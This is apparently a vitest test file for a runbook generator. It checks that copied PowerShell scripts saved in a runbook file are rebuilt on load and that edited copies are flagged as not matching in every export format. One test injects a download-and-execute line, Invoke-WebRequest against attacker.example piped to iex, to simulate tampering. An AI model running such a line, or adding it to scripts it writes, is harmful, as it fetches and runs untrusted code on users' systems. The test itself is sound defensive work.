// Copied script text in a file is built again and compared (issue 13, item 6): the runbook is what
// the next admin copies from, so only a text this version generates is printed as PowerShell to run.
import { describe, expect, it } from 'vitest';
import { parseDocument } from '../../../renderer/core/document/load';
import { buildScripts, matchesGenerated, requestOfScriptId } from '../../../renderer/core/powershell';
import { buildRunbook, exportRunbook } from '../../../renderer/core/runbook';
import { SCRIPT_MISMATCH_WORDS } from '../../../renderer/core/runbook/words';
import { must, staleAfterAssignment } from '../support/deployments';
import { EXPORTED_AT, fieldReportRunbookSession } from './field-report-runbook';

const FE2 = 'fe02.contoso.local';

describe('copied scripts, built again when the file is opened', () => {
  it('an edited copy in the file is shown as not matching, in every format, and the others as scripts', () => {
    const session = fieldReportRunbookSession();
    const json = JSON.parse(exportRunbook(session, 'json', EXPORTED_AT)) as { history: Record<string, unknown>[] };
    // The field report ends with a sign-off, which an edit before it would break (test/core/session/sign-off.test.ts).
    expect(json.history.at(-1)!.type).toBe('change.signed');
    json.history.pop();
    const index = json.history.findIndex((e) => e.type === 'script.copied');
    const original = json.history[index]!.text as string;
    json.history[index] = {
      ...json.history[index],
      text: `${original}\nInvoke-WebRequest https://attacker.example/x | iex`,
    };
    const opened = parseDocument(JSON.stringify(json));
    if (!opened.ok) throw new Error(opened.message);
    const scripts = buildRunbook(opened.session).scripts;
    const edited = scripts.filter((s) => !s.matches);
    expect(edited.map((s) => s.text)).toEqual([json.history[index]!.text]);
    expect(scripts.filter((s) => s.matches).length).toBeGreaterThan(0);
    const md = exportRunbook(opened.session, 'md', EXPORTED_AT);
    expect(md).toContain(SCRIPT_MISMATCH_WORDS);
    expect(md).not.toMatch(/```powershell\n[^`]*attacker\.example/);
    const html = exportRunbook(opened.session, 'html', EXPORTED_AT);
    expect(html).toContain('does not match this version&#39;s script');
    expect(html).not.toMatch(/<pre[^>]*aria-label="PowerShell[^"]*"><code>[^<]*attacker\.example/);
    // The unedited file prints every copy as a script.
    expect(buildRunbook(session).scripts.every((s) => s.matches)).toBe(true);
  });

  it('builds again with the request and options the copy was made with, and names the request of older copies by id', () => {
    const { session } = staleAfterAssignment();
    const deployment = session.deployment()!;
    const oauth = session.snapshot().context.oauth;
    const options = { route: 'file' as const, exportPath: 'D:\\Exports\\cs.zip' };
    const request = { kind: 'remediation' as const, path: 'A' as const, item: 'export' as const };
    const built = buildScripts({ deployment, oauth, options }, FE2, request);
    if (!built.ok) throw new Error(built.errors.join(' '));
    const script = built.scripts[0]!;
    const copy = { server: FE2, scriptId: script.id, text: script.text };
    expect(matchesGenerated({ ...copy, request, options }, deployment, oauth)).toBe(true);
    // Without the options it was built with, the text is not what the defaults build.
    expect(matchesGenerated(copy, deployment, oauth)).toBe(false);
    must(session, { type: 'script.copied', ...copy, title: script.title, request, options });
    const runbook = buildRunbook(session);
    expect(runbook.scripts.at(-1)?.matches).toBe(true);
    expect(requestOfScriptId('step-3')).toEqual({ kind: 'step', step: 3 });
    expect(requestOfScriptId('A-import-export')).toEqual({ kind: 'remediation', path: 'A', item: 'import' });
    expect(requestOfScriptId('C-rerun-step1')).toMatchObject({ kind: 'remediation', path: 'C' });
    expect(requestOfScriptId('verify')).toEqual({ kind: 'verify' });
    expect(requestOfScriptId('nonsense')).toBeNull();
  });
});
